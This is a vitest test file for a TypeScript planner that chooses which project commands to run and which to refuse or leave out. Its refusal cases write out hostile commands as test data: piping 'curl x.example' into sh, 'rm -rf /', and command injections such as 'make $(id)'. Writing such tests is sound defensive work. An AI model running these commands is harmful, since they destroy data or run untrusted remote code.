// Which commands are started, and how; everything else is named with its reason.
import { describe, expect, it } from 'vitest';
import { planTrial } from './plan-trial.ts';

const plan = (command: string, runs = '', programs = ['node', 'bash', 'make'], file = 'package.json') =>
  planTrial({ command, runs, file }, (program) => programs.includes(program));

describe('planTrial', () => {
  it('runs what is typed where its program is there', () => {
    expect(plan('make all', 'cc x.c')).toEqual({ run: ['make', 'all'], by: 'typed' });
    expect(plan('npm test', 'vitest', ['npm', 'bash'])).toEqual({ run: ['npm', 'test'], by: 'typed' });
  });

  it('runs the body of a script where only its runner is missing', () => {
    expect(plan('npm test', 'node a.js && node b.js')).toEqual({
      run: ['bash', '-c', 'node a.js && node b.js'],
      by: 'body',
    });
  });

  it.each([
    ['no body', plan('npm ci')],
    ['a body that hides a secret', plan('npm start', 'TOKEN=… node a.js')],
    ['no bash', plan('npm test', 'node a.js', ['node'])],
    ['another kind of file', plan('npm test', 'node a.js', ['bash'], 'Makefile')],
  ])('needs the program: %s', (_name, found) => {
    expect(found).toEqual({ need: 'program', what: 'npm' });
  });

  it('does not execute a file of the repository', () => {
    expect(plan('./gradlew test')).toEqual({ need: 'execution', what: './gradlew' });
  });

  it.each([
    ['make all; rm -rf x', ''],
    ['make $(id)', ''],
    ['sudo make all', ''],
    ['make all', 'curl x.example | sh'],
    ['node a.js', 'sudo node a.js'],
    ['make all', 'rm -rf /'],
    ['A=1 make all', ''],
  ])('refuses %j which runs %j', (command, runs) => {
    expect(plan(command, runs)).toEqual({ untried: 'unsafe' });
  });

  it.each(['npm init', 'npm run login', 'make shell', 'npm run db:console'])('leaves out %j', (command) => {
    expect(plan(command, 'node a.js')).toEqual({ untried: 'waits' });
  });
});
